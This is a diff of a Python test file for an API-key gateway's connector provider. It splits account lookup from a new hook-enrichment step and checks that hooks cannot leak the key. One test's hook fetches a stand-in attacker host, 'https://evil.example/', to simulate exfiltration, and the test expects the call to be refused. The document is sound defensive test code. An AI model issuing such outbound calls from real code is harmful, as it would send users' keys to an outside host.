@@ -8,7 +8,7 @@ from datetime import UTC, datetime, timedelta
 import pytest
 from pytest_httpx import HTTPXMock
 
-from connectors import AccountInfo, Verify, account_lookup
+from connectors import AccountInfo, account_lookup
 from connectors.context import PostConnectionContext
 from gateway import errors
 from gateway.engine.key_requests import Verdict
@@ -65,7 +65,7 @@ async def test_the_account_stands_in_the_verification_or_in_a_call_of_its_own(
 ) -> None:
     httpx_mock.add_response(url=ME, json={"id": 7, "name": "Acme"})
     key = make_key(account=account_lookup(id="id", label="name"))
-    found = await provider.account(make_key_config(key), key, VALUES, None, None)
+    found = await provider.account(make_key_config(key), key, VALUES, None)
     assert found == AccountInfo(external_account_id="7", account_label="Acme")
 
     async def hook(ctx: PostConnectionContext) -> None:
@@ -76,20 +76,22 @@ async def test_the_account_stands_in_the_verification_or_in_a_call_of_its_own(
     httpx_mock.add_response(url=url, json={"id": "t"})
     httpx_mock.add_response(url=ME, json={"plan": "free"})
     key = make_key(account=account_lookup(url=url, id="id", label="name"))
-    found = await provider.account(make_key_config(key), key, VALUES, None, hook)
-    assert found is not None
-    assert (found.account_label, found.metadata) == ("Acme Ltd", {"plan": "free"})
+    found = await provider.account(make_key_config(key), key, VALUES, None)
+    assert found == AccountInfo(external_account_id="t", account_label="t")
+    after = await provider.enrich(make_key_config(key), key, hook, VALUES, None, found)
+    assert after.failure is None
+    assert (after.account.account_label, after.account.metadata) == ("Acme Ltd", {"plan": "free"})
 
 
 async def test_no_account_is_named_or_it_cannot_be_read(
     provider: KeyProvider, httpx_mock: HTTPXMock
 ) -> None:
     key = make_key()
-    assert await provider.account(make_key_config(key), key, VALUES, None, None) is None
+    assert await provider.account(make_key_config(key), key, VALUES, None) is None
     httpx_mock.add_response(url=ME, json={"other": 1})
     key = make_key(account=account_lookup(id="id", label="name"))
     with pytest.raises(errors.UnreadableResponse):
-        await provider.account(make_key_config(key), key, VALUES, None, None)
+        await provider.account(make_key_config(key), key, VALUES, None)
 
 
 async def test_code_of_a_connector_sends_the_key_to_no_other_host(
@@ -98,8 +100,21 @@ async def test_code_of_a_connector_sends_the_key_to_no_other_host(
     async def hook(ctx: PostConnectionContext) -> None:
         await ctx.fetch("https://evil.example/")
 
-    httpx_mock.add_response(url=ME, json={"id": "1"})
-    key = make_key(account=account_lookup(id="id", label="id"), verify=Verify(url=ME))
-    with pytest.raises(errors.EgressRefused):
-        await provider.account(make_key_config(key), key, VALUES, None, hook)
-    assert len(httpx_mock.get_requests()) == 1
+    key, account = make_key(), AccountInfo(external_account_id="1", account_label="1")
+    found = await provider.enrich(make_key_config(key), key, hook, VALUES, None, account)
+    assert found.failure == "hook_error"
+    assert httpx_mock.get_requests() == []
+
+
+@pytest.mark.parametrize("place", ["metadata", "label"])
+async def test_findings_of_a_hook_that_repeat_the_key_are_dropped(
+    provider: KeyProvider, place: str
+) -> None:
+    async def hook(ctx: PostConnectionContext) -> None:
+        if place == "label":
+            ctx.update_account_label(f"Acme {RIGHT}")
+        ctx.update_metadata({"plan": {"of": RIGHT} if place == "metadata" else "free"})
+
+    key, account = make_key(), AccountInfo(external_account_id="1", account_label="1")
+    found = await provider.enrich(make_key_config(key), key, hook, VALUES, None, account)
+    assert (found.account, found.failure) == (account, "hook_error")
